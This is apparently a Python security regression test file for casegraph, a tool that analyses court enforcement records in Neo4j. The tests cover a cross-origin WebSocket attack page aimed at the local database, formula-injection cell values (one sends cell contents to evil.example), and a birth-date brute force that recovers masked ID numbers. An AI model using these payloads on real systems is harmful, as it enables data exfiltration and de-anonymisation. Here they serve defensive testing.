"""Trust, second round (issue 16): each finding tried as an attacker or a clumsy
operator would, reproduced, and shown fixed. Real parts throughout: a real
Neo4j, a real headless Chromium, real full disks (tmpfs), real processes
killed with SIGKILL.

1. any web page could read and write the local Neo4j; its files were readable by all;
2. names became live Excel formulas;
3. the hash key could be empty, raced, or guessed;
4. the results and their report could disagree;
5. the server failed slowly or wrongly;
6. odd bytes and odd sizes broke the reader.
"""
from __future__ import annotations

import csv
import functools
import hmac
import http.server
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import openpyxl
import pandas as pd
import psutil
import pytest
from click.testing import CliRunner
from neo4j import GraphDatabase
from neo4j.exceptions import AuthError

from browser import Browser
from casegraph import contract as C
from casegraph.cli import main
from casegraph.engines.neo4j import db as ne
from casegraph.engines.neo4j import server
from casegraph.errors import InputError, ServerError
from casegraph.normalise import identity
from casegraph.write.files import FORMULA_START, LOCK_FILE, STAGE_PREFIX
from handmade import ZHANG, case, party, write_export

README = Path(__file__).resolve().parent.parent / "README.md"
SMALL = {"heap": "512m", "pagecache": "128m"}


def run(*args: str):
    res = CliRunner().invoke(main, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    return res


def one_line_error(res) -> str:
    assert res.exit_code != 0 and "Traceback" not in res.output
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("casegraph: error: "), res.stderr
    return lines[0]


def private(folder: Path) -> list[str]:
    """Whatever in ``folder`` (itself included) another user could open."""
    found = [str(folder)] if stat.S_IMODE(folder.stat().st_mode) & 0o077 else []
    for p in folder.rglob("*"):
        mode = p.lstat().st_mode
        if not stat.S_ISLNK(mode) and stat.S_IMODE(mode) & 0o077:
            found.append(f"{p} {oct(stat.S_IMODE(mode))}")
    return found


def court(folder: Path, n: int = 4, debtor: str = "上海王五实业有限公司", judges=()) -> Path:
    """n cases of one debtor (a company: merged by its name) against different applicants."""
    cases = [case(f"（2024）沪0113执{i}号", amount=str(1000 * i)) for i in range(1, n + 1)]
    parties = []
    for i in range(1, n + 1):
        parties += [party(f"（2024）沪0113执{i}号", "申请执行人", f"上海甲{i}贸易有限公司"),
                    party(f"（2024）沪0113执{i}号", "被执行人", debtor)]
    return write_export(folder, cases, parties, judges=judges)


# ======================================================================= 1. the local database

ATTACK = """<!doctype html><title>a page from anywhere</title><script>
window.attempt = new Promise(resolve => {
  let ws;
  try { ws = new WebSocket("ws://127.0.0.1:%d"); } catch (e) { resolve({opened: false, thrown: String(e)}); return; }
  ws.binaryType = "arraybuffer";
  ws.onopen = () => {  // Bolt's handshake: magic, then four versions
    ws.send(new Uint8Array([0x60, 0x60, 0xB0, 0x17, 0, 4, 4, 5, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0]));
  };
  ws.onmessage = m => resolve({opened: true, reply: Array.from(new Uint8Array(m.data))});
  ws.onerror = () => resolve({opened: false});
  ws.onclose = e => resolve({opened: false, code: e.code});
  setTimeout(() => resolve({opened: false, timeout: true}), 15000);
});
</script>"""


def test_1_a_web_page_cannot_reach_the_local_database(neo4j_server, tmp_path):
    """Pages from another origin and from a file try Bolt over WebSocket, as
    the attack did: each reaches the port (the server logs the attempt) and is
    refused before Bolt begins."""
    log = neo4j_server.data_dir / server.LOG_FILE
    before = log.stat().st_size
    page = ATTACK % neo4j_server.port
    attack_file = tmp_path / "attack.html"
    attack_file.write_text(page, encoding="utf-8")
    # Another web app on this machine (a page any local web server was made to serve), and a file.
    # (Chromium now keeps pages of the internet from loopback by itself; these it lets through.)
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as web:
        threading.Thread(target=web.serve_forever, daemon=True).start()
        other = f"http://127.0.0.1:{web.server_address[1]}"
        with Browser() as b:
            foreign = b.new_page()
            foreign.page.route(f"{other}/**", lambda r: r.continue_())
            foreign.page.goto(f"{other}/attack.html", wait_until="load")
            from_web = foreign.page.evaluate("window.attempt")
            from_file = b.open(attack_file).page.evaluate("window.attempt")
        web.shutdown()
    assert from_web["opened"] is False and "timeout" not in from_web, from_web
    assert from_file["opened"] is False and "timeout" not in from_file, from_file
    with log.open(encoding="utf-8", errors="replace") as f:
        f.seek(before)
        refused = f.read()
    assert f"refused a WebSocket from a web page (Origin: {other})" in refused
    assert "refused a WebSocket from a web page (Origin: null)" in refused  # file:// pages send "null"


def test_1_a_connection_without_the_password_is_refused(neo4j_server):
    for auth in (None, ("neo4j", "neo4j"), ("neo4j", "a guess")):
        with GraphDatabase.driver(neo4j_server.uri, auth=auth) as driver:
            with pytest.raises(AuthError):
                driver.verify_connectivity()
    user, password = neo4j_server.auth
    assert len(password) >= 24
    with GraphDatabase.driver(neo4j_server.uri, auth=(user, password)) as driver:
        driver.verify_connectivity()
    # casegraph itself needs no password typed: it finds the local server's.
    with ne.connect(neo4j_server.uri) as db:
        assert db.read("RETURN 1 AS one").iloc[0, 0] == 1


def test_1_the_store_is_for_its_owner_only(neo4j_server):
    assert private(neo4j_server.data_dir) == []
    secret = neo4j_server.data_dir / server.PASSWORD_FILE
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600


def test_1_an_older_store_is_tightened_and_given_a_login(tmp_path):
    """A store made before the login (files 0644, no password file) gets both
    at its next start, before its port opens."""
    data = tmp_path / "neo4j"
    server.start(data, **SMALL)
    server.stop(data)
    (data / server.PASSWORD_FILE).unlink()
    for p in [data, *data.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    try:
        info = server.start(data, **SMALL)
        assert private(data) == []
        with GraphDatabase.driver(info.uri, auth=info.auth) as driver:
            driver.verify_connectivity()
        with GraphDatabase.driver(info.uri, auth=("neo4j", "neo4j")) as driver:
            with pytest.raises(AuthError):
                driver.verify_connectivity()
    finally:
        server.stop(data)


# ======================================================================= 2. cells stay text

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"详情")', "+1-2", "-3+4", "@SUM(1,1)"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_2_names_never_become_formulas_in_any_csv(tmp_path):
    cases, parties = [], []
    for i in range(1, 4):
        no = f"（2024）沪0113执{i}号"
        cases.append(case(no, judge="=1+1"))
        parties += [party(no, "申请执行人", HOSTILE[i]), party(no, "被执行人", HOSTILE[0], kind="法人")]
    judges = [{"judge": "=1+1", "team": "@一组", "capacity": "10"}]
    src = write_export(tmp_path / "export", cases, parties, judges=judges)
    res = run("analyze", str(src), "--out", str(tmp_path / "out"))
    assert res.exit_code == 0, res.output
    written = sorted((tmp_path / "out").glob("*.csv"))
    assert {"common_debtors.csv", "parties.csv", "assignments.csv"} <= {p.name for p in written}
    everything = []
    for path in written:
        cells = _cells(path)
        assert not [c for c in cells if c.startswith(FORMULA_START)], path.name
        everything += cells
    for name in HOSTILE:
        assert "'" + name in everything, name
    assert "'=1+1" in _cells(tmp_path / "out" / "assignments.csv")


def test_2_routes_and_flags_workbooks_hold_text_not_formulas(tmp_path):
    from casegraph.jobs.flag import KINDS, OUTPUTS, FlagRun, write_flags
    from casegraph.jobs.route import write_routes

    routes = pd.DataFrame([{c: "" for c in C.ROUTES.columns}]).assign(case_no="（2024）沪0113执1号", judge="=1+1",
                                                                      reason=HOSTILE[0])
    book = write_routes(routes, tmp_path / "routes.xlsx")
    tables = {k: pd.DataFrame(columns=list(OUTPUTS[k].columns)) for k in KINDS}
    tables["centralised"] = pd.DataFrame([{c: 1 for c in OUTPUTS["centralised"].columns}]).assign(
        name=HOSTILE[0], kind="法人", open_case_nos="（2024）沪0113执1号", party_id="P1", flag_id="F1", run_id="R1")
    summary = {"run_id": "R1", "run_at": "2024-01-05T00:00:00", "cases": 1, "flags": {k: len(t) for k, t in tables.items()},
               "thresholds": {"min_open_cases": 3}}
    folder = write_flags(FlagRun("R1", "2024-01-05T00:00:00", tables, summary), tmp_path / "flags")
    seen = []
    for path in (book, folder / "flags.xlsx"):
        wb = openpyxl.load_workbook(path)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
        seen += [c.value for c in cells]
    assert "'=1+1" in seen and "'" + HOSTILE[0] in seen
    assert not [v for v in seen if isinstance(v, str) and v.startswith(FORMULA_START)]


# ======================================================================= 3. the hash key

@pytest.fixture
def no_secret(monkeypatch):
    monkeypatch.delenv("CASEGRAPH_SECRET", raising=False)
    return monkeypatch


def fill(disk: Path) -> Path:
    """Write until the disk is full; the file that filled it."""
    filler = disk / "filler"
    with filler.open("wb", buffering=0) as f:
        chunk = b"\0" * 4096
        try:
            while True:
                f.write(chunk)
        except OSError:
            pass
    return filler


def test_3_a_full_disk_at_first_use_leaves_no_empty_key(tmpfs, no_secret):
    disk = tmpfs("64k")
    (disk / "casegraph").mkdir()
    filler = fill(disk)
    key = disk / "casegraph" / "secret.key"
    no_secret.setenv("CASEGRAPH_KEY_FILE", str(key))
    with pytest.raises(InputError, match="cannot create the key file .*No space left on device"):
        identity.secret_key()
    assert not key.exists() and not [p for p in key.parent.glob("*") if p.suffix != ".lock"]
    # A 0-byte key left by an older casegraph is refused, never used.
    filler.unlink()
    key.write_bytes(b"")
    with pytest.raises(InputError, match="the key file is empty"):
        identity.secret_key()
    key.write_text("0123456789abcdef\n")
    with pytest.raises(InputError, match="holds only 16 characters"):
        identity.secret_key()


@pytest.mark.parametrize("secret", ["", "   ", "court secret"])
def test_3_an_empty_or_short_passphrase_is_refused(no_secret, secret):
    no_secret.setenv("CASEGRAPH_SECRET", secret)
    with pytest.raises(InputError, match="CASEGRAPH_SECRET is .*at least 16"):
        identity.secret_key()


def test_3_parallel_first_uses_share_one_key(tmp_path, no_secret):
    key = tmp_path / "config" / "secret.key"
    env = {**os.environ, "CASEGRAPH_KEY_FILE": str(key)}
    env.pop("CASEGRAPH_SECRET", None)
    probe = ("import hashlib; from casegraph.normalise.identity import secret_key; "
             "print(hashlib.sha256(secret_key()).hexdigest())")
    procs = [subprocess.Popen([sys.executable, "-c", probe], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for _ in range(6)]
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0] * 6, [e for _, e in outs]
    assert len({o.strip() for o, _ in outs}) == 1
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_text().strip()) == 64
    assert sorted(p.name for p in key.parent.iterdir()) == ["secret.key", "secret.key.lock"]


def test_3_a_passphrase_is_stretched_and_the_stored_check_is_slow(neo4j_server, tmp_path, no_secret):
    passphrase = "Baoshan enforcement bureau 2024"
    no_secret.setenv("CASEGRAPH_SECRET", passphrase)
    key = identity.secret_key()
    assert key != passphrase.encode() and len(key) == 64
    started = time.perf_counter()
    check = identity.key_check(key)
    one_guess = time.perf_counter() - started
    # A fast keyed hash of a fixed text let guesses run by the million; scrypt costs each one tens of ms or more.
    assert one_guess > 0.01
    assert check != hmac.digest(key, b"casegraph key check", "sha256").hex()[:16]

    src = court(tmp_path / "export")
    with ne.connect(neo4j_server.uri) as db:
        ne.clear(db)
        db.write("MATCH (m:CasegraphMeta) DELETE m")
        try:
            from casegraph import pipeline

            pipeline.load(db, src)
            stored = db.read("MATCH (m:CasegraphMeta) RETURN m.key_check AS check").iloc[0, 0]
        finally:
            ne.clear(db)
            db.write("MATCH (m:CasegraphMeta) DELETE m")
    assert stored == check


def test_3_the_key_opens_the_ids_so_it_is_kept_like_them(tmp_path, no_secret):
    """With the key, a masked ID and its keyed hash give the ID back by
    trying birth dates: the key is as sensitive as the numbers. Without it
    they do not. The README says so, and the key file is owner-only."""
    no_secret.setenv("CASEGRAPH_KEY_FILE", str(tmp_path / "secret.key"))
    key = identity.secret_key()
    masked, hashed = identity.mask(ZHANG), identity.keyed_hash(ZHANG, key)

    def search(k: bytes) -> str | None:
        import datetime as dt

        day = dt.date(1949, 1, 1)
        while day < dt.date(1950, 1, 1):
            candidate = masked[:6] + day.strftime("%Y%m%d") + masked[14:]
            if identity.keyed_hash(candidate, k) == hashed:
                return candidate
            day += dt.timedelta(days=1)
        return None

    assert search(key) == ZHANG
    assert search(b"0" * 64) is None
    assert stat.S_IMODE((tmp_path / "secret.key").stat().st_mode) == 0o600
    personal = README.read_text(encoding="utf-8").split("## Personal data", 1)[1].split("\n## ", 1)[0]
    assert "as sensitive as the ID numbers" in personal


# ======================================================================= 4. one result, whole

KILLED_IN_REPORT = """
import os, signal, sys
from casegraph.write import report

def dying(result, site, *args):
    (site / "index.html").write_text("half a report")
    os.kill(os.getpid(), signal.SIGKILL)

report._build = dying
from casegraph.cli import main
main(args=sys.argv[1:], prog_name="casegraph")
"""

HELD_IN_REPORT = """
import os, sys, time
from pathlib import Path
from casegraph.write import report

build = report._build

def held(result, site, *args):
    Path(os.environ["HELD"]).write_text("holding")
    while not Path(os.environ["GO"]).exists():
        time.sleep(0.05)
    build(result, site, *args)

report._build = held
from casegraph.cli import main
main(args=sys.argv[1:], prog_name="casegraph")
"""


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.name.startswith(STAGE_PREFIX) and STAGE_PREFIX not in str(p.relative_to(folder))}


def test_4_a_run_killed_in_its_report_leaves_the_previous_result_whole(tmp_path):
    first, second = court(tmp_path / "a"), court(tmp_path / "b", n=6, debtor="上海赵六实业有限公司")
    out = tmp_path / "out"
    assert run("analyze", str(first), "--out", str(out)).exit_code == 0
    before = snapshot(out)
    killed = subprocess.run([sys.executable, "-c", KILLED_IN_REPORT, "analyze", str(second), "--out", str(out)],
                            capture_output=True, text=True, timeout=600)
    assert killed.returncode == -signal.SIGKILL
    assert snapshot(out) == before  # the CSVs of `first` beside the report of `first`, nothing of `second`
    assert "王五" in (out / "common_debtors.csv").read_text("utf-8-sig")
    assert list(out.glob(STAGE_PREFIX + "*"))  # what the killed run left
    assert run("analyze", str(second), "--out", str(out)).exit_code == 0
    assert not list(out.glob(STAGE_PREFIX + "*"))
    assert "赵六" in (out / "common_debtors.csv").read_text("utf-8-sig")
    assert "赵六" in (out / "report" / "index.html").read_text("utf-8")


def test_4_a_second_run_into_the_same_folder_is_refused(tmp_path):
    first, second = court(tmp_path / "a"), court(tmp_path / "b", n=6, debtor="上海赵六实业有限公司")
    out = tmp_path / "out"
    env = {**os.environ, "HELD": str(tmp_path / "held"), "GO": str(tmp_path / "go")}
    proc = subprocess.Popen([sys.executable, "-c", HELD_IN_REPORT, "analyze", str(first), "--out", str(out)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 300
        while not (tmp_path / "held").exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr and proc.stderr.read()
            time.sleep(0.1)
        res = run("analyze", str(second), "--out", str(out))
        assert "another casegraph run is writing its results here" in one_line_error(res)
    finally:
        (tmp_path / "go").write_text("go")
        _, err = proc.communicate(timeout=300)
    assert proc.returncode == 0, err
    summary = json.loads((out / C.SUMMARY_FILE).read_text(encoding="utf-8"))
    assert summary["accepted"]["cases"] == 4  # the first run's, whole
    assert "王五" in (out / "report" / "index.html").read_text("utf-8")
    assert "王五" in (out / "common_debtors.csv").read_text("utf-8-sig")
    assert "赵六" not in (out / "common_debtors.csv").read_text("utf-8-sig")


def test_4_staging_left_by_killed_runs_is_cleaned_up(tmp_path):
    out = tmp_path / "out"
    for stale in (f"{STAGE_PREFIX}abc123", ".report-xyz"):
        (out / stale / "networks").mkdir(parents=True)
        (out / stale / "networks" / "page.html").write_text("old")
    (out / f"{STAGE_PREFIX}tmp.csv").write_text("old")
    (out / "notes.txt").write_text("the clerk's own")
    assert run("analyze", str(court(tmp_path / "a")), "--out", str(out)).exit_code == 0
    names = {p.name for p in out.iterdir()}
    assert not [n for n in names if n.startswith((STAGE_PREFIX, ".report-"))]
    assert {"notes.txt", LOCK_FILE, C.SUMMARY_FILE, "report"} <= names


# ======================================================================= 5. the server fails fast and cleanly

def _servers_on(data: Path) -> list[int]:
    return [p.pid for p in psutil.process_iter(["cmdline"])
            if p.info["cmdline"] and server.MAIN_CLASS in p.info["cmdline"] and str(data.resolve()) in p.info["cmdline"]]


def test_5_a_corrupt_store_fails_at_once_with_neo4j_s_reason(tmp_path):
    data = tmp_path / "neo4j"
    server.start(data, **SMALL)
    server.stop(data)
    (data / "data" / "databases" / "neo4j" / "neostore").write_bytes(os.urandom(8192))
    started = time.monotonic()
    with pytest.raises(ServerError) as caught:
        server.start(data, timeout=600, **SMALL)
    took = time.monotonic() - started
    message = str(caught.value).splitlines()[0]
    assert "Failed to start" in message and "store version" in message, message
    assert "in time" not in message and took < 300
    assert _servers_on(data) == [] and not (data / server.STATE_FILE).exists()


def test_5_an_os_error_after_launch_kills_the_jvm_and_names_the_path(tmp_path):
    """The state file cannot be written once the JVM runs (a full disk did
    this; here its temporary name is taken by a folder)."""
    data = tmp_path / "neo4j"
    (data / (server.STATE_FILE + ".tmp")).mkdir(parents=True)
    with pytest.raises(ServerError) as caught:
        server.start(data, **SMALL)
    message = str(caught.value)
    assert str(data.resolve() / server.STATE_FILE) in message and "Is a directory" in message, message
    assert _servers_on(data) == [] and not (data / server.STATE_FILE).exists()


def test_5_a_full_disk_start_names_the_path_and_leaves_nothing_running(tmpfs):
    disk = tmpfs("1m")
    data = disk / "neo4j"
    data.mkdir()
    fill(disk)
    with pytest.raises(ServerError, match=f"{data}.*No space left on device"):
        server.start(data, **SMALL)
    assert _servers_on(data) == [] and not list(data.glob("*.tmp"))


def test_5_stop_on_a_full_disk_is_quick_and_loses_nothing_committed(tmpfs):
    disk = tmpfs("1200m")  # Neo4j preallocates 256 MB of transaction log per database
    data = disk / "neo4j"
    info = server.start(data, **SMALL)
    try:
        with GraphDatabase.driver(info.uri, auth=info.auth) as driver:
            driver.execute_query("UNWIND range(1, 1000) AS i CREATE (:Probe {i: i})", database_="neo4j")
            fill(disk)
            driver.execute_query("UNWIND range(1, 1000) AS i CREATE (:Probe {i: i})", database_="neo4j")
        started = time.monotonic()
        assert server.stop(data)
        assert time.monotonic() - started < 30  # it took the full 60 s grace
        assert _servers_on(data) == []
        (disk / "filler").unlink()
        again = server.start(data, **SMALL)
        with GraphDatabase.driver(again.uri, auth=again.auth) as driver:
            records, _, _ = driver.execute_query("MATCH (p:Probe) RETURN count(p) AS n", database_="neo4j")
        assert records[0]["n"] == 2000
    finally:
        server.stop(data)


# ======================================================================= 6. odd bytes and odd sizes

def _rows(n: int, debtor_of=lambda i: "王五") -> list[str]:
    return [f"（2024）沪0113执{i}号,申请执行人,上海甲{i}贸易有限公司\n（2024）沪0113执{i}号,被执行人,{debtor_of(i)}"
            for i in range(1, n + 1)]


def _export_with_parties(folder: Path, n: int, body: bytes) -> Path:
    folder.mkdir(parents=True)
    (folder / "cases.csv").write_text("case_no,amount\n" + "".join(f"（2024）沪0113执{i}号,{i}\n" for i in range(1, n + 1)),
                                      encoding="utf-8")
    (folder / "parties.csv").write_bytes(body)
    return folder


def _rejected(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "rejected.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)


@pytest.mark.parametrize("where", ["in the first 64 KiB", "past the first megabyte"])
def test_6_a_nul_byte_costs_its_row(tmp_path, where):
    n = 10 if where.startswith("in") else 20_000
    rows = _rows(n)
    bad = n - 3 if n > 10 else 3
    rows[bad - 1] = rows[bad - 1].replace("王五", "王\0五")
    body = ("case_no,role,name\n" + "\n".join(rows) + "\n").encode("utf-8")
    if n > 10:
        assert body.index(b"\0") > 1 << 20
    src = _export_with_parties(tmp_path / "export", n, body)
    res = run("analyze", str(src), "--out", str(tmp_path / "out"), "--lang", "en")
    assert res.exit_code == 0, res.output
    rejected = _rejected(tmp_path / "out")
    assert rejected["row"].tolist() == [str(2 * bad + 1)] and "NUL byte" in rejected["error"].iloc[0]
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file() and path.suffix != ".xlsx":  # a workbook is a zip: its cells are checked below
            assert b"\0" not in path.read_bytes(), path
    book = openpyxl.load_workbook(tmp_path / "out" / C.WORKBOOK_FILE)
    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and "\0" in c.value]


def test_6_an_undecodable_line_costs_its_row(tmp_path):
    rows = _rows(10)
    body = ("case_no,role,name\n".encode("gbk") + b"\n".join(
        r.encode("gbk") if i != 4 else r.encode("gbk").replace("王五".encode("gbk"), b"\x80\xff\xfe") for i, r in enumerate(rows))
        + b"\n")
    src = _export_with_parties(tmp_path / "export", 10, body)
    res = run("analyze", str(src), "--out", str(tmp_path / "out"), "--lang", "en")
    assert res.exit_code == 0, res.output
    rejected = _rejected(tmp_path / "out")
    assert rejected["row"].tolist() == ["11"] and "neither UTF-8 nor GBK" in rejected["error"].iloc[0]


def test_6_invisible_and_direction_changing_characters(tmp_path):
    names = {1: "\u200b\u200b", 2: "上海\u202e司公限有乙", 3: "张\u200d三\ufeff", 4: "李四"}
    src = write_export(tmp_path / "export", [case(f"（2024）沪0113执{i}号") for i in names],
                       [p for i, name in names.items() for p in (party(f"（2024）沪0113执{i}号", "申请执行人", name),
                                                                 party(f"（2024）沪0113执{i}号", "被执行人", "王五"))])
    out = tmp_path / "out"
    # One row of eight is rejected on purpose: above the default --max-rejected.
    assert run("analyze", str(src), "--out", str(out), "--lang", "en", "--max-rejected", "50").exit_code == 0
    rejected = _rejected(out)
    assert rejected["error"].tolist() == ["party has no name (only invisible characters: <U+200B><U+200B>)"]
    warnings = pd.read_csv(out / "warnings.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    shown = warnings.loc[warnings["field"] == "name", "value"].tolist()
    assert shown == ["上海<U+202E>司公限有乙", "张<U+200D>三<U+FEFF>"]
    parties = pd.read_csv(out / "parties.csv", encoding="utf-8-sig", dtype=str)["name"].tolist()
    assert {"上海司公限有乙", "张三", "李四", "王五"} == set(parties)
    for path in out.glob("*.csv"):
        assert not any(c in path.read_text("utf-8-sig") for c in "\u200b\u200d\u202e\ufeff"), path.name


@pytest.mark.parametrize("shape", ["100,000 empty columns", "a 2 MB header line"])
def test_6_a_file_too_wide_or_a_header_too_long_is_refused_at_once(tmp_path, shape):
    if shape.startswith("100"):
        header = "case_no,role,name" + "," * 100_000
        words = "more than 1000 columns"
    else:
        header = "case_no,role,name," + "x" * (2 << 20)
        words = "over 1 MB long"
    body = (header + "\n" + "\n".join(_rows(3)) + "\n").encode("utf-8")
    src = _export_with_parties(tmp_path / "export", 3, body)
    proc = subprocess.run([sys.executable, "-m", "casegraph.cli", "analyze", str(src), "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    assert proc.stderr.splitlines() == [proc.stderr.strip()] and words in proc.stderr and "parties.csv" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_6_a_row_of_stray_commas_further_down_costs_its_row(tmp_path):
    """Below the top lines (which are refused at once), a row of stray commas
    is read row by row and cut to the header's width as it comes."""
    rows = _rows(10)
    rows[7] = rows[7] + "," * 200_000 + "x"  # line 17
    body = ("case_no,role,name\n" + "\n".join(rows) + "\n").encode("utf-8")
    src = _export_with_parties(tmp_path / "export", 10, body)
    res = run("analyze", str(src), "--out", str(tmp_path / "out"), "--lang", "en")
    assert res.exit_code == 0, res.output
    rejected = _rejected(tmp_path / "out")
    assert rejected["row"].tolist() == ["17"]
    assert rejected["error"].tolist() == [f"the row has {3 + 200_000} cells but the header 3 (a stray comma or quote?)"]
